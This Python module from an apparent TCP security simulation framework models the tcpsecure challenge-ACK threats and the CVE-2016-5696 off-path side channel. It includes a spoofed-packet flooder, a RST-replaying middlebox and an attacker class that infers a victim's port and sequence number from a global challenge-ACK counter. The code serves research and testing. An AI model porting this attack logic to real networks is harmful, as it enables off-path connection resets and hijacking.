"""Adversaries, middleboxes and path models for the challenge-ACK threats of tcpsecure (5.2, 5.3,
6.1, 6.2, the 3.2 note) and the challenge-ACK side channel of Cao et al. (USENIX Security 2016).

Everything here acts on frames in the simulated network, as bytes:

- `SpoofedFlood`: an off-path sender of paced spoofed segments (5.2's reflector).
- `PathFaults`: the network losing or delaying chosen data segments (5.3's "RST in flight"; the
  "data lost in the network" of 6.2). Not an attacker: a model of the path, on a bridge.
- `ResettingMiddlebox`: a stateful on-path box without the tcpsecure fix that answers the challenge
  ACK with its cached RST (6.1) or with a RST at the ACK plus the window (6.2).
- `RandomizedChallengeAckLimiter`: Linux's fix for CVE-2016-5696 (a random budget per interval);
  it lives in `threatlab.tcp.challenge` (`TcpConfig.challenge_ack_budget = "random"`) and is
  re-exported here, where it first was.
- `CounterSideChannel`: the off-path attacker of CVE-2016-5696, which counts the challenge ACKs its
  own connection gets to learn whether a spoofed probe used one up.
- `ForcedIsnRandom`: a `random.Random` whose next 32-bit draw is chosen (3.2's corner case).
- topologies: `triangle` (victim, peer and attacker around a router, with per-host link rates)
  and `bump` (two hosts and a bridge between them).
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass, field
from ipaddress import IPv4Address
from typing import Any

from threatlab.errors import DecodeError, ParamError
from threatlab.net.adversary import Adversary
from threatlab.net.bridge import Verdict
from threatlab.net.sim import NS_PER_S, Simulator
from threatlab.net.topology import (
    Interface,
    Link,
    Node,
    NodeKind,
    Position,
    Route,
    Segment,
    SegmentKind,
    Topology,
    mac_for,
)
from threatlab.net.wire import ETH_P_IP, IPPROTO_TCP, Ethernet, IPv4
from threatlab.tcp.challenge import RandomizedChallengeAckLimiter
from threatlab.tcp.wire import TcpFlags, TcpSegment

__all__ = [
    "CounterSideChannel",
    "ForcedIsnRandom",
    "PathFaults",
    "RandomizedChallengeAckLimiter",
    "ResettingMiddlebox",
    "SideChannelResult",
    "SpoofedFlood",
    "TcpFrame",
    "bump",
    "parse_tcp_frame",
    "spoofed",
    "static_arp",
    "triangle",
]

_M = 0xFFFFFFFF
_RST = int(TcpFlags.RST)
_ACK = int(TcpFlags.ACK)
_SYN = int(TcpFlags.SYN)
_ETH_IP = ETH_P_IP.to_bytes(2, "big")


# --- frames ----------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class TcpFrame:
    """A TCP segment as seen in an Ethernet frame."""

    eth: Ethernet
    ip: IPv4
    seg: TcpSegment

    @property
    def four_tuple(self) -> tuple[IPv4Address, int, IPv4Address, int]:
        return (self.ip.src, self.seg.src_port, self.ip.dst, self.seg.dst_port)


def parse_tcp_frame(frame: bytes) -> TcpFrame | None:
    """The TCP segment an IPv4 frame carries, or None (not IPv4/TCP, a fragment, or malformed)."""
    if frame[12:14] != _ETH_IP:
        return None
    try:
        eth = Ethernet.decode(frame)
        ip = IPv4.decode(eth.payload, verify=False)
        if ip.proto != IPPROTO_TCP or ip.mf or ip.frag_offset:
            return None
        seg = TcpSegment.decode(ip.payload, verify=False)
    except DecodeError:
        return None
    return TcpFrame(eth, ip, seg)


def spoofed(src: IPv4Address, dst: IPv4Address, seg: TcpSegment, ttl: int = 64) -> IPv4:
    """An IPv4 packet carrying `seg` from `src` (whoever the attacker claims to be) to `dst`,
    with a correct TCP checksum over that pseudo-header: the receiver cannot tell."""
    return IPv4(src, dst, IPPROTO_TCP, seg.encode(src, dst), ttl)


# --- topologies ------------------------------------------------------------------------------------


def triangle(rtt_ns: int, *, victim: str = "v", peer: str = "p", victim_bps: int | None = None,
             peer_bps: int | None = None, attacker_bps: int | None = None) -> Topology:
    """`victim` (10.1.0.10 on "dc"), `peer` (10.2.0.10 on "home") and the off-path adversary "adv"
    (192.0.2.66 on "wan"), each on its own segment around router "r1" (.1 on each).

    Every interface's link has a delay of rtt/8, so victim <-> peer is `rtt_ns` round trip (a frame
    pays its link's delay leaving its sender's NIC and again arriving at the receiver's), as is the
    adversary <-> either host. Each host's link has its own rate (None: no serialization time),
    and the router's port on that segment has the same rate, so the bottleneck is real both ways.
    """
    if rtt_ns < 0:
        raise ParamError(f"rtt must be >= 0 ns, got {rtt_ns}")
    d = rtt_ns // 8
    lv, lp, la = Link(d, victim_bps), Link(d, peer_bps), Link(d, attacker_bps)
    nodes = (
        Node(victim, (Interface("eth0", "dc", mac_for(10), "10.1.0.10/24", link=lv),),
             routes=(Route("0.0.0.0/0", "eth0", "10.1.0.1"),)),
        Node(peer, (Interface("eth0", "home", mac_for(20), "10.2.0.10/24", link=lp),),
             routes=(Route("0.0.0.0/0", "eth0", "10.2.0.1"),)),
        Node("r1", (Interface("eth0", "dc", mac_for(1), "10.1.0.1/24", link=lv),
                    Interface("eth1", "home", mac_for(2), "10.2.0.1/24", link=lp),
                    Interface("eth2", "wan", mac_for(3), "192.0.2.1/24", link=la)),
             kind=NodeKind.ROUTER),
        Node("adv", (Interface("eth0", "wan", mac_for(200), "192.0.2.66/24", link=la),),
             routes=(Route("0.0.0.0/0", "eth0", "192.0.2.1"),), adversary=Position.OFF_PATH),
    )
    segments = (Segment("dc", SegmentKind.SWITCH), Segment("home", SegmentKind.SWITCH),
                Segment("wan", SegmentKind.SWITCH))
    return Topology(segments, nodes, name="triangle")


def bump(rtt_ns: int, *, left: str = "a", right: str = "b", bridge: str = "mbox") -> Topology:
    """`left` (10.0.0.1 on "inside") - bridge `bridge` - `right` (10.0.0.2 on "outside"): one IP
    subnet with a transparent bump in the wire, whose port "in" faces `left` and "out" faces
    `right`. The bridge is marked as the on-path adversary so the network hands out its intercept
    hook (it is a middlebox or the path itself in these threats). Every link has rtt/8 of delay,
    so left <-> right is `rtt_ns` round trip, and left <-> bridge half of it."""
    if rtt_ns < 0:
        raise ParamError(f"rtt must be >= 0 ns, got {rtt_ns}")
    link = Link(rtt_ns // 8)
    nodes = (
        Node(left, (Interface("eth0", "inside", mac_for(1), "10.0.0.1/24", link=link),)),
        Node(right, (Interface("eth0", "outside", mac_for(2), "10.0.0.2/24", link=link),)),
        Node(bridge, (Interface("in", "inside", mac_for(100), link=link),
                      Interface("out", "outside", mac_for(101), link=link)),
             kind=NodeKind.BRIDGE, adversary=Position.ON_PATH),
    )
    return Topology((Segment("inside", SegmentKind.HUB), Segment("outside", SegmentKind.HUB)), nodes,
                    name="bump")


def static_arp(net: Any) -> None:
    """Pin every IPv4 neighbour on each segment as a static ARP entry, both ways.

    ARP entries otherwise expire after 60 s and a host queues only 16 packets while it resolves one
    again; a flood or a probing round that met an expired entry would lose most of its packets to
    the resolution, an artefact the TCP threats are not about (attack tools pin their gateway's MAC).
    """
    by_segment: dict[str, list[tuple[Any, Any]]] = {}
    for node in net.nodes.values():
        for nic in node.interfaces.values():
            if nic.ip is not None and nic.port is not None:
                by_segment.setdefault(nic.port.segment.name, []).append((node, nic))
    for members in by_segment.values():
        for node, nic in members:
            for other_node, other in members:
                if other is not nic:
                    node.add_neighbor(other.ip, other.mac, nic.name)


# --- 5.2: the reflector ----------------------------------------------------------------------------


class SpoofedFlood:
    """An off-path attacker sending `count` spoofed segments at `rate_pps`, from `src` to `dst`.

    `make(i)` builds the i-th segment (0-based) at the moment it is sent, so it may depend on what
    the attacker knows then. `frames_sent` and `bytes_sent` count what left the attacker's NIC
    (bytes as on the wire, padded to 60).
    """

    def __init__(self, adversary: Adversary, sim: Simulator, src: IPv4Address, dst: IPv4Address,
                 make: Callable[[int], TcpSegment], count: int, rate_pps: float) -> None:
        if rate_pps <= 0:
            raise ParamError(f"attack rate must be > 0 packets/s, got {rate_pps}")
        self.adversary = adversary
        self.sim = sim
        self.src = src
        self.dst = dst
        self.make = make
        self.count = count
        self.interval_ns = max(1, round(NS_PER_S / rate_pps))
        self.frames_sent = 0
        self.bytes_sent = 0
        self.started_at: int | None = None
        self.ended_at: int | None = None

    def start(self, at_ns: int | None = None) -> None:
        self.sim.at(self.sim.now if at_ns is None else at_ns, self._send, 0)

    def _send(self, i: int) -> None:
        if i >= self.count:
            return
        if self.started_at is None:
            self.started_at = self.sim.now
        packet = spoofed(self.src, self.dst, self.make(i))
        if self.adversary.send_ip(packet):
            self.frames_sent += 1
            self.bytes_sent += max(60, 14 + 20 + len(packet.payload))
        self.ended_at = self.sim.now
        self.sim.post(self.interval_ns, self._send, i + 1)


# --- 5.3 / 6.x: the path ---------------------------------------------------------------------------


class PathFaults:
    """The network between two hosts losing or delaying chosen data segments.

    `arm(direction, n, delay_ns)`: the next `n` segments carrying data that enter the bridge by
    port `direction` are delayed by `delay_ns`, or lost when `delay_ns` is None. Used as a bridge's
    intercept (`__call__`), or consulted first by a middlebox. Counts what it did.
    """

    def __init__(self) -> None:
        self._armed: dict[str, list[int | None]] = {}
        self.lost = 0
        self.delayed = 0

    def arm(self, direction: str, n: int, delay_ns: int | None) -> None:
        self._armed.setdefault(direction, []).extend([delay_ns] * n)

    def __call__(self, frame: bytes, direction: str) -> Verdict:
        pending = self._armed.get(direction)
        if not pending:
            return frame
        tf = parse_tcp_frame(frame)
        if tf is None or not tf.seg.payload:
            return frame
        delay = pending.pop(0)
        if delay is None:
            self.lost += 1
            return None
        self.delayed += 1
        return (frame, delay)


# --- 6.1 and 6.2: the middlebox --------------------------------------------------------------------


@dataclass(slots=True)
class _Tracked:
    """What the middlebox knows of one connection: the inside host's last ACK and window."""

    inside_ack: int | None = None
    inside_wnd: int = 0
    closed_at: int | None = None  # when the middlebox accepted a RST and cleared the connection
    cached_rst: bytes | None = None  # the frame of that RST, as it went to the inside host


@dataclass(slots=True)
class WarLog:
    """The RST/ACK war between the inside host and the middlebox: every ACK of the inside host
    the box answered, and the RST it answered with (the RST that started it is not counted)."""

    acks_in: int = 0  # ACKs from the inside host the middlebox took and answered
    rsts_out: int = 0  # RSTs the middlebox made up (6.2) or replayed (6.1) in answer
    first_ns: int | None = None  # the first answered ACK
    last_ns: int | None = None  # the last one

    @property
    def packets(self) -> int:
        return self.acks_in + self.rsts_out

    @property
    def duration_ns(self) -> int:
        return 0 if self.first_ns is None or self.last_ns is None else self.last_ns - self.first_ns

    def note(self, now: int) -> None:
        if self.first_ns is None:
            self.first_ns = now
        self.last_ns = now


class ResettingMiddlebox:
    """A stateful middlebox (a firewall tracking connections) without the tcpsecure fix.

    It stands between an inside host (port `inside`) and an outside host. When the outside host
    sends a RST that RFC 793 finds acceptable against the inside host's window (as the middlebox
    last saw it: RCV.NXT from its ACK, RCV.WND from its window field), the middlebox clears the
    connection, passes the RST on ("asks A to do the same") and remembers it for `hold_ns`.
    While it remembers, every ACK the inside host sends on that connection is taken off the wire
    and answered with a RST to the inside host:

    - `mode="cache"` (tcpsecure 6.1): the RST it cached, byte for byte;
    - `mode="advance"` (tcpsecure 6.2): a RST whose sequence number is the ACK's acknowledgment
      number plus its window plus `edge_offset` ("the higher end of the acceptable window").
      `edge_offset=0` is the draft's literal sum, which lies one past RFC 793's half-open window
      RCV.NXT <= SEG.SEQ < RCV.NXT+RCV.WND; -1 is the last acceptable number.

    Once `hold_ns` has passed it forgets the connection and passes ACKs on (then the outside host,
    which has no TCB, answers with an exact RST of its own). Windows are taken unscaled: the
    threats that use this box run without window scaling. `faults`, if given, act first (the
    network upstream of the box losing data).
    """

    def __init__(self, adversary: Adversary, sim: Simulator, *, mode: str = "cache", edge_offset: int = -1,
                 hold_ns: int = 10 * NS_PER_S, inside: str = "in", faults: PathFaults | None = None) -> None:
        if mode not in ("cache", "advance"):
            raise ParamError(f"middlebox mode {mode!r} must be 'cache' or 'advance'")
        if adversary.position is not Position.ON_PATH:
            raise ParamError("a middlebox stands on path")
        self.adversary = adversary
        self.sim = sim
        self.mode = mode
        self.edge_offset = edge_offset
        self.hold_ns = hold_ns
        self.inside = inside
        self.faults = faults
        self.conns: dict[tuple, _Tracked] = {}
        self.war = WarLog()
        self.rsts_accepted = 0
        self.acks_passed_after_hold = 0
        adversary.intercept = self.intercept

    def intercept(self, frame: bytes, direction: str) -> Verdict:
        if self.faults is not None:
            verdict = self.faults(frame, direction)
            if verdict is not frame:
                return verdict
        tf = parse_tcp_frame(frame)
        if tf is None:
            return frame
        if direction == self.inside:
            return self._from_inside(frame, tf)
        return self._from_outside(frame, tf)

    def _from_inside(self, frame: bytes, tf: TcpFrame) -> Verdict:
        key = tf.four_tuple  # inside address and port first
        seg = tf.seg
        f = int(seg.flags)
        st = self.conns.get(key)
        if st is None:
            st = self.conns[key] = _Tracked()
        now = self.sim.now
        if st.closed_at is None:
            if f & _ACK:
                st.inside_ack = seg.ack
                st.inside_wnd = seg.window
            return frame
        if now - st.closed_at >= self.hold_ns:
            del self.conns[key]  # forgotten: the box passes what it no longer tracks
            self.acks_passed_after_hold += 1
            return frame
        if f & _ACK and not f & _RST:
            self.war.acks_in += 1
            self.war.note(now)
            self._answer(tf, st)
            return None
        return frame

    def _from_outside(self, frame: bytes, tf: TcpFrame) -> Verdict:
        seg = tf.seg
        key = (tf.ip.dst, seg.dst_port, tf.ip.src, seg.src_port)
        st = self.conns.get(key)
        if st is None or st.closed_at is not None or not int(seg.flags) & _RST or st.inside_ack is None:
            return frame
        # RFC 793's check, which the box applies (it does not have tcpsecure 2.2)
        if (seg.seq - st.inside_ack) & _M < max(st.inside_wnd, 1):
            st.closed_at = self.sim.now
            st.cached_rst = frame
            self.rsts_accepted += 1
        return frame

    def _answer(self, tf: TcpFrame, st: _Tracked) -> None:
        if self.mode == "cache":
            rst = st.cached_rst
        else:
            seg = tf.seg
            seq = (seg.ack + seg.window + self.edge_offset) & _M
            r = TcpSegment(seg.dst_port, seg.src_port, seq, 0, TcpFlags.RST, 0)
            ip = spoofed(tf.ip.dst, tf.ip.src, r)
            rst = Ethernet(tf.eth.src, tf.eth.dst, ETH_P_IP, ip.encode()).encode()
        assert rst is not None
        self.war.rsts_out += 1
        self.adversary.send_frame(rst, self.inside)


# --- CVE-2016-5696: reading the global counter (its fix: TcpConfig.challenge_ack_budget) --------


@dataclass(slots=True)
class SideChannelResult:
    presence_detected: bool = False  # the first round said "one of the candidate ports is in use"
    port: int | None = None  # the client port the attacker settled on
    seq: int | None = None  # a sequence number it believes is in the server's window
    rounds: int = 0
    spoofed_sent: int = 0
    own_rsts_sent: int = 0
    challenge_acks_seen: int = 0
    done_ns: int | None = None
    counts: list[int] = field(default_factory=list)  # challenge ACKs seen per round


class CounterSideChannel:
    """The off-path attacker of Cao et al., "Off-Path TCP Exploits: Global Rate Limit Considered
    Dangerous" (USENIX Security 2016; CVE-2016-5696).

    It has a connection of its own to the server (`own`: a `Connection` of a `TcpStack` on the
    adversary's host) and knows the client's address, the server's address and port, and a range
    of candidate client ports. The server sends at most `limit` challenge ACKs per `interval`,
    counted for the whole host. One probing round:

    1. spoofed probes as the client, one per candidate: a SYN-ACK per port when looking for the
       port (an established connection answers with a challenge ACK, tcpsecure 3.2; no connection,
       a RST), a RST per window-sized step when looking for the sequence number (in the window:
       challenge ACK, tcpsecure 2.2; outside: dropped);
    2. `limit` in-window, inexact RSTs on its own connection, each worth one challenge ACK;
    3. it counts the challenge ACKs it gets: fewer than `limit` means a probe used one up.

    Rounds are spaced so that each falls in a fresh interval of the limiter. The first round tests
    every candidate; then a binary search halves the candidates a round at a time. `on_done` is
    called with the `SideChannelResult`.
    """

    def __init__(self, adversary: Adversary, sim: Simulator, own: Any, *, client_ip: IPv4Address,
                 server_ip: IPv4Address, server_port: int, ports: range, limit: int = 100,
                 interval_ns: int = NS_PER_S, attacker_bps: int | None = None, infer_seq: bool = False,
                 rng: random.Random, on_done: Callable[[SideChannelResult], Any] | None = None) -> None:
        host = adversary.host
        if host is None:
            raise ParamError("the side-channel attacker is a host off path")
        self.adversary = adversary
        self.sim = sim
        self.own = own
        self.client_ip = client_ip
        self.server_ip = server_ip
        self.server_port = server_port
        self.ports = ports
        self.limit = limit
        self.interval_ns = interval_ns
        self.frame_ns = 60 * 8 * NS_PER_S // attacker_bps if attacker_bps else 0
        self.infer_seq = infer_seq
        self.rng = rng
        self.on_done = on_done
        self.result = SideChannelResult()
        self._round_count = 0
        self._phase = "port"
        self._candidates: list[int] = []
        self._testing: list[int] = []
        self._full = True
        self._next_at = 0
        own_port = own.endpoint.local_port
        self._own_key = (int(server_ip), server_port, own_port)
        host.add_sniffer(self._sniff)

    # -- the counting ----------------------------------------------------------------------------

    def _sniff(self, frame: bytes, ifname: str, now: int) -> None:
        tf = parse_tcp_frame(frame)
        if tf is None:
            return
        seg = tf.seg
        if (int(tf.ip.src), seg.src_port, seg.dst_port) != self._own_key:
            return
        if int(seg.flags) == _ACK and not seg.payload:
            self._round_count += 1

    # -- the rounds ------------------------------------------------------------------------------

    def start(self) -> None:
        self._begin("port", list(self.ports))

    def _begin(self, phase: str, candidates: list[int]) -> None:
        self._phase = phase
        self._candidates = candidates
        self._full = True  # the phase's first round tests every candidate at once
        self.sim.at(max(self._next_at, self.sim.now), self._round, candidates)

    def _round(self, testing: list[int]) -> None:
        r = self.result
        r.rounds += 1
        self._testing = testing
        self._round_count = 0
        adv = self.adversary
        c, s = self.client_ip, self.server_ip
        if self._phase == "port":
            for port in testing:
                seg = TcpSegment(port, self.server_port, self.rng.getrandbits(32), self.rng.getrandbits(32),
                                 TcpFlags.SYN | TcpFlags.ACK, 29200)
                adv.send_ip(spoofed(c, s, seg))
        else:
            port = self.result.port
            for seq in testing:
                adv.send_ip(spoofed(c, s, TcpSegment(port, self.server_port, seq, 0, TcpFlags.RST, 0)))
        r.spoofed_sent += len(testing)
        ep = self.own.endpoint
        span = max(1, ep.snd_wnd - 1)
        for i in range(self.limit):
            # in the server's window (its RCV.NXT is our SND.NXT), never exact: a challenge ACK each
            seq = (ep.snd_nxt + 1 + i % span) & _M
            adv.send_ip(spoofed(ep.local_ip, s, TcpSegment(ep.local_port, self.server_port, seq, 0, TcpFlags.RST, 0)))
        r.own_rsts_sent += self.limit
        batch_ns = (len(testing) + self.limit) * self.frame_ns
        # judge once every reply is in (the threats keep round trips under half an interval); the
        # next round starts a full interval after this batch has left, so that its first challenge
        # ACK opens a fresh window of the limiter
        self.sim.schedule(batch_ns + self.interval_ns * 9 // 10, self._judge)
        self._next_at = self.sim.now + batch_ns + self.interval_ns + self.interval_ns // 20

    def _judge(self) -> None:
        r = self.result
        seen = self._round_count
        r.counts.append(seen)
        r.challenge_acks_seen += seen
        hit = seen < self.limit  # one of the probes used up a challenge ACK
        if self._full:
            self._full = False
            if self._phase == "port":
                r.presence_detected = hit
            if not hit:
                return self._finish()
        else:
            tested = set(self._testing)
            self._candidates = [x for x in self._candidates if (x in tested) == hit]
        if len(self._candidates) == 1:
            if self._phase == "port":
                r.port = self._candidates[0]
                if self.infer_seq:
                    return self._start_seq()
            else:
                r.seq = self._candidates[0]
            return self._finish()
        half = self._candidates[: len(self._candidates) // 2]
        self.sim.at(max(self._next_at, self.sim.now), self._round, half)

    def _start_seq(self) -> None:
        # the server advertises the same window on every connection: our own tells us its size
        wnd = max(1, self.own.endpoint.snd_wnd)
        base = self.rng.getrandbits(32)
        n = -(-(1 << 32) // wnd)
        self._begin("seq", [(base + i * wnd) & _M for i in range(n)])

    def _finish(self) -> None:
        self.result.done_ns = self.sim.now
        if self.on_done is not None:
            self.on_done(self.result)


# --- 3.2's corner case ------------------------------------------------------------------------------


class ForcedIsnRandom(random.Random):
    """A `random.Random` whose next `getrandbits(32)` returns `isn` (then draws as usual).

    Stands in for a restarting host's ISN generator happening to pick one particular value, the
    tcpsecure 3.2 corner case of an ISN equal to the stale peer's RCV.NXT - 1. Only the 32-bit draw
    is forced (a `TcpEndpoint` draws its ISS so); every other draw is the seeded generator's own.
    """

    def __init__(self, seed: int, isn: int | None = None) -> None:
        super().__init__(seed)
        self.forced: int | None = isn

    def force(self, isn: int) -> None:
        self.forced = isn & _M

    def getrandbits(self, k: int) -> int:
        if k == 32 and self.forced is not None:
            isn, self.forced = self.forced, None
            return isn
        return super().getrandbits(k)
